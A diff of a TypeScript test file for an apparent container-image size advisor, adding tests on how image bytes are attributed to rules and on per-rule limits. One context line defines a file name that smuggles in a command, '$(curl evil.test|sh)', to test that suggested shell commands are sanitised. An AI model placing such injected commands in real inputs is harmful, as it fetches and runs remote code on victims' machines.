@@ -116,6 +116,29 @@ test('what one stage builds with is a toolchain for who forbids one', () => {
   expect(findingsOf(split, 'single-stage')).toEqual([])
 })
 
+test('each byte is told once: what one rule takes out is no other rule’s', () => {
+  const elf = { checksum: 7, facts: [{ kind: 'elf', symbols: 4_000_000, debug: 2_000_000, go: false } as const] }
+  const places = [
+    ['single-stage', '/usr/local/go/bin/go', '/usr/local/go/bin/gofmt'],
+    ['package-cache', '/root/.cache/pip/a', '/root/.cache/pip/b'],
+    ['context-bloat', '/app/.git/a', '/app/.git/b'],
+    ['vcs-and-tests', '/app/tests/a', '/app/tests/b'],
+    ['dev-dependencies', '/app/node_modules/x/test/a', '/app/node_modules/x/test/b'],
+  ] as const
+  const packages = [aPackage('npm', 'x', { path: '/app/node_modules/x', dev: true })]
+  for (const [rule, ...paths] of places) {
+    const owner = rule === 'dev-dependencies' ? 0 : null
+    const files = paths.map((path) => aFile(path, 9_000_000, 2, { ...elf, package: owner }))
+    const found = advise(anImage([base, run, copy], [server, ...files], { ...quiet, stages: 1, packages }), null)
+    expect(found.map((each) => [each.rule, each.bytes])).toEqual([[rule, 18_000_000]])
+  }
+  const twice = ['/app/a', '/app/b'].map((path) => aFile(path, 9_000_000, 2, elf))
+  expect(advise(image(twice), null).map(({ rule, bytes }) => [rule, bytes])).toEqual([
+    ['duplicate-files', 9_000_000],
+    ['debug-symbols', 6_000_000],
+  ])
+})
+
 test('no command to paste has in it what a shell would run', () => {
   const evil = '/app/$(curl evil.test|sh);x.bin'
   const files = [
@@ -137,6 +160,14 @@ test('is bounded: ten of a rule, forty in all', () => {
   expect(found).toHaveLength(10)
   expect(found[0]!.bytes).toBe(600_099)
   expect(advise(image(pairs.flat()), null, { limit: 3 })).toHaveLength(3)
+  const rooted = image([...pairs.flat(), lists], { settings: { user: '', variables: [], buildArgs: [] } })
+  // Of each rule the first is told all the same: a budget may forbid it.
+  expect(advise(rooted, null, { limit: 3 }).map(({ rule }) => rule)).toEqual([
+    'package-cache',
+    'duplicate-files',
+    'duplicate-files',
+    'root-user',
+  ])
 })
 
 describe('whatever an image holds', () => {
@@ -238,7 +269,8 @@ describe('whatever an image holds', () => {
           expect(bytes === null || Number.isSafeInteger(bytes)).toBe(true)
           expect(added === null || (bytes !== null && added >= 0 && added <= bytes)).toBe(true)
         }
-        for (const bytes of byRule.values()) expect(bytes).toBeLessThanOrEqual(total)
+        // Nor do they all together.
+        expect([...byRule.values()].reduce((sum, bytes) => sum + bytes, 0)).toBeLessThanOrEqual(total)
         expect(JSON.parse(JSON.stringify(found))).toEqual(found)
       }),
       { numRuns: 500 },
